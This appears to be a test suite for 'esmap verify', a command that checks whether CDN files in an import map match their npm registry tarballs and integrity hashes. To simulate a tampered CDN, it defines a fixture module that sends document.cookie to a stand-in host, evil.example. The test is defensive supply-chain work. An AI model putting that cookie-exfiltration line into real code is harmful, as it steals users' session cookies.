import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fixturesDir, startFixtureServer, type FixtureServer } from '@esmap/test-fixtures'
import { esmap, fixtureFlags, project } from './run.js'

let server: FixtureServer
/** A CDN that serves fx-dep@1.2.0 with other bytes than its registry tarball. */
let tampered: FixtureServer
let cdn: string
const evil = 'export const version = "1.2.0"; fetch("https://evil.example/" + document.cookie)\n'
const sri = (bytes: string | Uint8Array): string => `sha384-${createHash('sha384').update(bytes).digest('base64')}`

beforeAll(async () => {
  server = await startFixtureServer()
  cdn = `${server.urls.jsdelivr}npm/`
  const pkg = await readFile(`${fixturesDir}/packages/fx-dep/1.2.0/package.json`, 'utf8')
  tampered = await startFixtureServer({ builtins: false, packages: [{ name: 'fx-dep', version: '1.2.0', files: { 'package.json': pkg, 'index.js': evil } }] })
})
afterAll(async () => {
  await server.close()
  await tampered.close()
})

const original = (): Promise<string> => readFile(`${fixturesDir}/packages/fx-dep/1.2.0/index.js`, 'utf8')

describe('esmap verify', () => {
  it('passes when every URL serves the file of the registry tarball', async () => {
    const dir = await project()
    await esmap(['install', 'fx-dep@1', '@fx/scoped', '--integrity', ...fixtureFlags(server)], { cwd: dir })
    const r = await esmap(['verify', ...fixtureFlags(server)], { cwd: dir })
    expect(r.code).toBe(0)
    expect(r.stdout).toBe([`ok                 ${cdn}@fx/scoped@1.1.0/index.js`, `ok                 ${cdn}fx-dep@1.2.0/index.js`, `ok                 ${cdn}fx-dep@2.1.0/index.js`, ''].join('\n'))
    expect(r.stderr).toBe('importmap.json: 3 ok\n')
  })

  it('fails when the CDN serves other bytes than the tarball, naming the URL and both hashes', async () => {
    const dir = await project()
    const flags = ['--registry', server.urls.registry, '-p', 'jsdelivr', '--cdn-url', `${tampered.urls.jsdelivr}npm/`, '--cache-dir', '.cache']
    expect((await esmap(['install', 'fx-dep@1', ...flags], { cwd: dir })).code).toBe(0)
    const r = await esmap(['verify', ...flags], { cwd: dir })
    expect(r.code).toBe(1)
    const url = `${tampered.urls.jsdelivr}npm/fx-dep@1.2.0/index.js`
    expect(r.stdout).toBe(`differs            ${url}\n                   fx-dep@1.2.0 index.js: served ${sri(evil)}, registry tarball ${sri(await original())}\n`)
    expect(r.stderr).toBe(
      `importmap.json: 1 differs\nerror ESMAP_VERIFY_FAILED: 1 of 1 URLs in importmap.json failed verification: 1 differs\n  Fix: Pin the map to a CDN that serves the published files (or regenerate it with esmap install), and report tampering to the CDN.\n`,
    )
  })

  it('reports each URL: missing files, unreachable URLs, wrong integrity; skips what it cannot compare', async () => {
    const dep = `${cdn}fx-dep@1.2.0/index.js`
    const map = {
      imports: {
        'fx-dep': dep,
        'fx-dep/nope.js': `${cdn}fx-dep@1.2.0/nope.js`,
        'fx-dep/': `${cdn}fx-dep@1.2.0/`,
        'fx-exports': `${cdn}fx-exports@1.0.0/dist/index.js`,
        'fx-cjs': `${server.urls.jspm}npm:fx-cjs@1.0.0/index.js`,
        app: './app.js',
      },
      integrity: { [dep]: sri('something else') },
    }
    const dir = await project({ 'importmap.json': JSON.stringify(map) })
    // The CDN fails for this file, every retry too.
    const fault = server.faults.add({ kind: 'status', status: 500, path: '/jsdelivr/npm/fx-exports@1.0.0/dist/index.js' })
    const r = await esmap(['verify', '--json', '--cdn-url', `jspm.io=${server.urls.jspm}`, ...fixtureFlags(server)], { cwd: dir })
    fault.remove()
    expect(r.code).toBe(1)
    expect(JSON.parse(r.stdout)).toEqual({
      command: 'verify',
      map: `${dir}/importmap.json`,
      ok: false,
      results: [
        { url: `file://${dir}/app.js`, status: 'skipped', reason: 'not a package URL of a known provider' },
        { url: `${cdn}fx-dep@1.2.0/`, status: 'skipped', package: 'fx-dep@1.2.0', reason: 'a folder mapping, not a file' },
        { url: dep, status: 'integrity-mismatch', package: 'fx-dep@1.2.0', file: 'index.js', reason: `the map's integrity ${sri('something else')} is not the file's`, expected: sri(await original()) },
        { url: `${cdn}fx-dep@1.2.0/nope.js`, status: 'not-in-package', package: 'fx-dep@1.2.0', file: 'nope.js', reason: 'fx-dep@1.2.0 has no file nope.js in its registry tarball' },
        { url: `${cdn}fx-exports@1.0.0/dist/index.js`, status: 'unreachable', package: 'fx-exports@1.0.0', file: 'dist/index.js', reason: `Fetching ${cdn}fx-exports@1.0.0/dist/index.js failed after 5 attempts: HTTP 500 Internal Server Error.` },
        { url: `${server.urls.jspm}npm:fx-cjs@1.0.0/index.js`, status: 'skipped', package: 'fx-cjs@1.0.0', reason: "jspm.io serves converted files, not the package's own" },
      ],
      error: {
        code: 'ESMAP_VERIFY_FAILED',
        message: `3 of 6 URLs in importmap.json failed verification: 1 integrity-mismatch, 1 not-in-package, 1 unreachable\n  Fix: Pin the map to a CDN that serves the published files (or regenerate it with esmap install), and report tampering to the CDN.`,
        specifier: dep,
        fix: 'Pin the map to a CDN that serves the published files (or regenerate it with esmap install), and report tampering to the CDN.',
      },
    })
  })

  it('--frozen: passes for a lock that resolves to itself', async () => {
    const dir = await project()
    await esmap(['install', 'fx-dep@1', '@fx/scoped', ...fixtureFlags(server)], { cwd: dir })
    const r = await esmap(['verify', '--frozen', '-q', ...fixtureFlags(server)], { cwd: dir })
    expect({ code: r.code, stdout: r.stdout, stderr: r.stderr }).toEqual({ code: 0, stdout: '', stderr: '' })
  })

  it('--frozen: fails when resolving the lock again would change it', async () => {
    // A hand-edited lock: @fx/scoped needs fx-dep@^2.1.0, which the map does not give it.
    const map = { imports: { 'fx-dep': `${cdn}fx-dep@1.2.0/index.js`, '@fx/scoped': `${cdn}@fx/scoped@1.1.0/index.js` } }
    const dir = await project({ 'importmap.json': JSON.stringify(map) })
    const r = await esmap(['verify', '--frozen', ...fixtureFlags(server)], { cwd: dir })
    expect(r.code).toBe(1)
    expect(r.stdout).toBe(`ok                 ${cdn}@fx/scoped@1.1.0/index.js\nok                 ${cdn}fx-dep@1.2.0/index.js\n`)
    expect(r.stderr).toBe(
      [
        'importmap.json: 2 ok',
        '--frozen: resolving the map again would change it (1 added entry)',
        'error ESMAP_FROZEN: --frozen: resolving importmap.json again would change it:',
        `+ scopes[${cdn}@fx/scoped@1.1.0/]["fx-dep"]: ${cdn}fx-dep@2.1.0/index.js`,
        '  Fix: Run "esmap install" without --frozen to update the map, and commit it.',
        '',
      ].join('\n'),
    )
  })

  it('verifies the map of a page', async () => {
    const dir = await project()
    await esmap(['install', 'fx-dep@1', '-o', 'index.html', ...fixtureFlags(server)], { cwd: dir })
    const r = await esmap(['verify', '-m', 'index.html', ...fixtureFlags(server)], { cwd: dir })
    expect(r.code).toBe(0)
    expect(r.stdout).toBe(`ok                 ${cdn}fx-dep@1.2.0/index.js\n`)
  })

  it('a missing map is bad usage', async () => {
    const dir = await project()
    const r = await esmap(['verify', ...fixtureFlags(server)], { cwd: dir })
    expect(r.code).toBe(2)
    expect(r.stderr).toBe(`error ESMAP_CLI_MAP_NOT_FOUND: No map to verify at ${dir}/importmap.json\n  Fix: Give the map with -m <file> (a .json map, an HTML page or an esmap script).\nRun "esmap verify --help" for usage.\n`)
  })
})
